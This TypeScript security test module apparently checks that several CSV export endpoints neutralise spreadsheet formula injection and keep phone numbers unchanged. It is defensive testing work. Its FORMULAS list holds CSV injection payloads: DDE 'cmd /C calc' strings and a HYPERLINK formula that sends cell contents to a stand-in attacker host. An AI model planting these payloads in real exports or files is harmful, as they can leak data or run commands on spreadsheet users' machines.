import { eventually } from '@sluice/kernel/testing';
import { parse } from 'csv-parse/sync';
import { toBuffer } from 'qrcode';
import { type Arena, type Attack, type AttackPart, type Person, succeeded } from './attack';
import { uploadImport } from './imports';
import { expectAnswer, type Sender } from './sender';

/** What a spreadsheet would run when somebody opens what we answer as CSV. */
export const formulasPart: AttackPart = {
  name: 'formulas in CSV',
  attacks: () => SOURCES.map(attackOf),
};

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '-A1',
  '+A1',
  '=',
  '-',
  '@',
  '+1;=1',
  '"=1+1',
  '\ufeff=1+1',
];

/** Begin with a sign and are what they are. */
const HARMLESS = [
  '+6281234567890',
  '+62 812-3456-7890',
  '-12.50',
  '-1',
  '+1 (555) 010-9999',
  "'quoted",
  '021 555',
];

interface Source {
  /** Of the CSV, as it stands in the table. */
  name: string;
  /** Makes one that holds the cells. @returns where it is */
  make: (arena: Arena) => Promise<{ as: Person; path: string }>;
  /** False where the cells are not what people typed. */
  keepsHarmless?: boolean;
}

const SOURCES: Source[] = [
  { name: 'audience: records', make: audienceRecords, keepsHarmless: true },
  { name: 'audience: names of fields', make: audienceFields },
  { name: 'audience: rejections', make: audienceRejections },
  { name: 'migration: errors', make: (arena) => migration(arena, 'errors'), keepsHarmless: true },
  {
    name: 'migration: failed rows',
    make: (arena) => migration(arena, 'failed-rows.csv'),
    keepsHarmless: true,
  },
  { name: 'migration: failed rows, headers', make: migrationHeaders },
  { name: 'revenue: errors of a file', make: (arena) => revenue(arena, 'errors'), keepsHarmless: true },
  { name: 'revenue: report of a batch', make: (arena) => revenue(arena, 'report') },
  { name: 'omr: sheets', make: sheets },
];

function attackOf({ name, make, keepsHarmless = false }: Source): Attack {
  return {
    name,
    expectation: 'no cell is a formula, numbers and phone numbers are as they were',
    async run(arena) {
      const { as, path } = await make(arena);
      const answer = await arena.send('GET', path, { as });
      if (answer.status !== 200) throw new Error(`${answer.status} ${answer.text.slice(0, 200)}`);
      if (!/^text\/csv/.test(answer.headers['content-type'] ?? '')) throw new Error('This is no CSV');
      const cells = (parse(answer.bytes, { bom: true, relax_column_count: true }) as string[][]).flat();
      if (cells.length < 8) throw new Error(`Hardly anything in it: ${answer.text}`);
      const running = cells.filter(isFormula);
      if (running.length > 0) succeeded(`runs: ${JSON.stringify(running.slice(0, 5))}`);
      const changed = HARMLESS.filter((cell) => keepsHarmless && !cells.includes(cell));
      if (changed.length > 0) succeeded(`changed: ${changed.join(', ')}`);
    },
  };
}

function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?[0-9][0-9 ().,/-]*$/.test(cell);
}

const all = [...FORMULAS, ...HARMLESS];

async function audienceRecords({ send, home: { user } }: Arena): Promise<{ as: Person; path: string }> {
  const records = all.map((cell, n) => ({ email: `f${n}@mail.example`, note: cell, first_name: cell }));
  return audience(send, user, '', { upload_name: 'formulas', records });
}

async function audienceFields({ send, home: { user } }: Arena): Promise<{ as: Person; path: string }> {
  // The first cell of the file stands behind what may be taken for its byte order mark.
  const names = ['\ufeff=1+1', ...FORMULAS.slice(0, -1)];
  const record = Object.fromEntries(names.map((name) => [name, 'x']));
  const upload = { upload_name: 'formulas', records: [{ ...record, email: 'a@mail.example' }] };
  return audience(send, user, '', { ...upload, fields: [...names, 'email'] });
}

async function audienceRejections({ send, home: { user } }: Arena): Promise<{ as: Person; path: string }> {
  const wrong = all.map((cell) => ({ email: cell, domain: cell }));
  const json = { upload_name: 'formulas', records: [{ email: 'a@mail.example' }, ...wrong] };
  const { as, path } = await audience(send, user, '?on_error=partial', json);
  return { as, path: path.replace('?', '/rejections?') };
}

async function audience(
  send: Sender,
  as: Person,
  query: string,
  json: object,
): Promise<{ as: Person; path: string }> {
  const sent = { as, json, headers: { Prefer: 'wait=30' } };
  const made = await send('POST', `/api/audience/batch-upload${query}`, sent);
  const { upload_id: id } = expectAnswer<{ upload_id: string }>(200, made);
  return { as, path: `/api/audience/batch-upload/${id}?format=csv` };
}

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;

function packages(header: string): string {
  const lines = all.map((cell) => `${quoted(cell)},${quoted(cell)},never,${quoted(cell)}`);
  return `${header}\r\n${lines.join('\r\n')}\r\n`;
}

async function migration(
  { send, home: { owner } }: Arena,
  what: string,
): Promise<{ as: Person; path: string }> {
  return validated(send, owner, packages('kode_paket,nama_paket,harga,tanggal_berangkat'), what);
}

async function migrationHeaders({ send, home: { owner } }: Arena): Promise<{ as: Person; path: string }> {
  // Names with control characters are refused.
  const names = FORMULAS.filter((name) => !/[\t\r\n]/.test(name))
    .map((name) => quoted(`${name} x`))
    .join(',');
  const csv = packages(`kode_paket,nama_paket,harga,tanggal_berangkat,${names}`);
  return validated(send, owner, csv, 'failed-rows.csv');
}

async function validated(
  send: Sender,
  as: Person,
  csv: string,
  what: string,
): Promise<{ as: Person; path: string }> {
  const id = await uploadImport(send, as, 'package', csv);
  const path = `/api/v1/onboarding/migration/${id}`;
  expectAnswer(200, await send('POST', `${path}/validate`, { as }));
  await eventually('the validation to end', async () => {
    const { json } = await send('GET', `${path}/status`, { as });
    const { status, validation } = json as { status: string; validation: object | null };
    return status !== 'validating' && validation;
  });
  return { as, path: `${path}/${what}` };
}

/** A claim file with something wrong in each record, and a batch whose claims bear the names of formulas. */
async function revenue(
  { send, home: { user } }: Arena,
  what: 'errors' | 'report',
): Promise<{ as: Person; path: string }> {
  const lines = all.map((cell) =>
    ['10001', quoted(cell), '1', quoted(cell), quoted(cell), '01', 'x'].join(','),
  );
  const csv = `HCODE,HN,PERSON_ID,DATESERV,SEQ,LABTEST,LABRESULT\r\n${lines.join('\r\n')}\r\n`;
  const form = new FormData();
  form.append('files', new Blob([csv]), 'LABFU6805.csv');
  const odx = all.map((cell) =>
    [quoted(cell), '20250101', '00100', 'A00', '1', '1', '1', quoted(cell)].join(','),
  );
  const header = 'HN,DATEDX,CLINIC,DIAG,DXTYPE,DRDX,PERSON_ID,SEQ';
  form.append('files', new Blob([`${header}\r\n${odx.join('\r\n')}\r\n`]), 'ODX6805.csv');
  form.append(
    'files',
    new Blob(['HCODE,HN,CHANGWAT,AMPHUR,DOB,SEX,MARRIAGE,OCCUPA,NATION,PERSON_ID,NAMEPAT\r\n']),
    'PAT6805.csv',
  );
  form.append('files', new Blob(['HN,CLINIC,DATEOPD,TIMEOPD,SEQ,UUC\r\n']), 'OPD6805.csv');
  const sent = { as: user, form, headers: { Prefer: 'wait=30' } };
  const { data } = expectAnswer<{ data: { batchId: string; results: { fileId: string }[] } }>(
    200,
    await send('POST', '/api/revenue/upload/batch', sent),
  );
  if (what === 'errors')
    return { as: user, path: `/api/revenue/files/${data.results[0]?.fileId}/errors?format=csv` };
  await eventually('the files to be compared', async () => {
    const { json } = await send('GET', `/api/revenue/batches/${data.batchId}/progress`, { as: user });
    return (json as { data: { checkState: string } }).data.checkState !== 'waiting';
  });
  return { as: user, path: `/api/revenue/batches/${data.batchId}/report?format=csv` };
}

/** Sheets whose names and codes are formulas. */
async function sheets({ send, home: { user } }: Arena): Promise<{ as: Person; path: string }> {
  const form = new FormData();
  form.append('task_id', '12345678');
  form.append('has_qr', 'true');
  for (const text of FORMULAS.slice(0, 6)) {
    const image = await toBuffer(`${text} 12345678`, { width: 300 });
    form.append('files', new Blob([new Uint8Array(image)]), `${text.replaceAll('/', '')}.png`);
  }
  const made = await send('POST', '/api/batches/upload', { as: user, form });
  const { batch_id: id } = expectAnswer<{ batch_id: string }>(202, made);
  await eventually('the sheets to be read', async () => {
    const { json } = await send('GET', `/api/batches/${id}/progress`, { as: user });
    return ['completed', 'failed'].includes((json as { status: string }).status);
  });
  return { as: user, path: `/api/batches/${id}/export.csv` };
}
